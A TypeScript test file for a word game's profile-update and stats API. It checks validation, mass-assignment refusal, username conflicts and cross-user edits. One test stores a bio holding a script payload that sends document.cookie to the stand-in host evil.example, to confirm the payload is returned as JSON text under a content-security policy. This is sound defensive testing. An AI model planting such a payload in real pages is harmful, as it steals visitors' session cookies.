// Ids in test names such as (A17) or (F9) are rows of docs/reliability.md.
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { findUserById } from "../../src/db/repos/users";
import { createTestApp, errorBodyOf, signUp, type TestApp } from "../support/test-app";

let t: TestApp;
beforeEach(async () => {
  t = await createTestApp();
});
afterEach(async () => {
  await t.close();
});

const patch = (headers: Record<string, string>, payload: unknown) =>
  t.app.inject({ method: "PATCH", url: "/api/user/profile", headers, payload: payload as object });

describe("PATCH /api/user/profile", () => {
  it("updates username, bio, favourite category and skill level and returns the user", async () => {
    const { headers, user } = await signUp(t.app);
    const res = await patch(headers, {
      username: "Wordsmith",
      bio: "I rhyme.",
      favoriteWordCategory: "nature",
      skillLevel: "advanced",
    });
    expect(res.statusCode).toBe(200);
    const expected = {
      ...user,
      username: "Wordsmith",
      bio: "I rhyme.",
      favoriteWordCategory: "nature",
      skillLevel: "advanced",
    };
    expect(res.json()).toEqual(expected);
    expect((await t.app.inject({ url: "/api/auth/user", headers })).json()).toEqual(expected);
  });

  it("changes only the fields sent, and clears bio and category with null", async () => {
    const { headers } = await signUp(t.app);
    await patch(headers, { bio: "first", favoriteWordCategory: "food" });
    const res = await patch(headers, { skillLevel: "expert" });
    expect(res.json()).toMatchObject({ bio: "first", favoriteWordCategory: "food", skillLevel: "expert" });
    const cleared = await patch(headers, { bio: null, favoriteWordCategory: null });
    expect(cleared.json()).toMatchObject({ bio: null, favoriteWordCategory: null, skillLevel: "expert" });
  });

  it.each([
    { role: "admin" },
    { id: "someone-else" },
    { email: "new@example.com" },
    { bio: "hi", isGuest: true },
  ])("refuses extra field %j with 400 and changes nothing (A9)", async (payload) => {
    const { headers, user } = await signUp(t.app);
    const before = await findUserById(t.db, user.id);
    const res = await patch(headers, payload);
    expect(res.statusCode).toBe(400);
    expect(errorBodyOf(res).message).toMatch(/^Unknown field/);
    expect(await findUserById(t.db, user.id)).toEqual(before);
  });

  it("accepts a 280-character bio and refuses 281", async () => {
    const { headers } = await signUp(t.app);
    expect((await patch(headers, { bio: "b".repeat(280) })).statusCode).toBe(200);
    const res = await patch(headers, { bio: "b".repeat(281) });
    expect(res.statusCode).toBe(400);
    expect(errorBodyOf(res).message).toBe("Bio must be at most 280 characters.");
  });

  // "The spec's enumerations": the categories and skill levels of docs/product.md §10.
  it("refuses values outside the spec's enumerations", async () => {
    const { headers } = await signUp(t.app);
    const category = await patch(headers, { favoriteWordCategory: "sports" });
    expect(category.statusCode).toBe(400);
    expect(errorBodyOf(category).message).toContain(
      "nature, technology, emotions, actions, objects, animals, food, science",
    );
    const skill = await patch(headers, { skillLevel: "godlike" });
    expect(skill.statusCode).toBe(400);
    expect(errorBodyOf(skill).message).toContain("beginner, intermediate, advanced, expert");
  });

  it("refuses a username someone else has (any case) with 409, but allows changing the case of one's own", async () => {
    await signUp(t.app, { username: "TakenName" });
    const { headers, user } = await signUp(t.app, { username: "mine_1" });
    const res = await patch(headers, { username: "takenname" });
    expect(res.statusCode).toBe(409);
    expect(errorBodyOf(res)).toEqual({ message: "That username is taken.", code: "username_taken" });
    expect((await findUserById(t.db, user.id))?.username).toBe("mine_1");
    expect((await patch(headers, { username: "MINE_1" })).json().username).toBe("MINE_1");
  });

  it("stores HTML in the bio verbatim and returns it as JSON text (A20)", async () => {
    const { headers } = await signUp(t.app);
    const bio = `<script>document.location="https://evil.example/?c="+document.cookie</script>`;
    const res = await patch(headers, { bio });
    expect(res.headers["content-type"]).toMatch(/^application\/json/);
    expect(res.json().bio).toBe(bio);
    expect(res.headers["content-security-policy"]).toContain("default-src 'self'");
  });

  it("requires a session", async () => {
    const res = await patch({}, { bio: "hi" });
    expect(res.statusCode).toBe(401);
    expect(errorBodyOf(res).code).toBe("unauthorized");
  });

  it("offers no way to change another user's profile (A8)", async () => {
    const victim = await signUp(t.app);
    const attacker = await signUp(t.app);
    const byPath = await t.app.inject({
      method: "PATCH",
      url: `/api/user/profile/${victim.user.id}`,
      headers: attacker.headers,
      payload: { bio: "pwned" },
    });
    expect(byPath.statusCode).toBe(404);
    const byQuery = await t.app.inject({
      method: "PATCH",
      url: `/api/user/profile?id=${victim.user.id}`,
      headers: attacker.headers,
      payload: { bio: "pwned" },
    });
    expect(byQuery.statusCode).toBe(200);
    expect((await findUserById(t.db, victim.user.id))?.bio).toBeNull();
    expect((await findUserById(t.db, attacker.user.id))?.bio).toBe("pwned");
  });
});

describe("GET /api/user/stats", () => {
  it("returns exactly the five stats and the battle record", async () => {
    const { headers } = await signUp(t.app);
    const res = await t.app.inject({ url: "/api/user/stats", headers });
    expect(res.statusCode).toBe(200);
    expect(res.json().battle).toEqual({ wins: 0, losses: 0, draws: 0, rating: 1200, ratedBattles: 0 });
    expect(Object.keys(res.json()).sort()).toEqual([
      "battle",
      "currentWinStreak",
      "gamesPlayed",
      "gamesWon",
      "riddlesCreated",
      "totalScore",
    ]);
  });

  it("requires a session", async () => {
    expect((await t.app.inject({ url: "/api/user/stats" })).statusCode).toBe(401);
  });
});
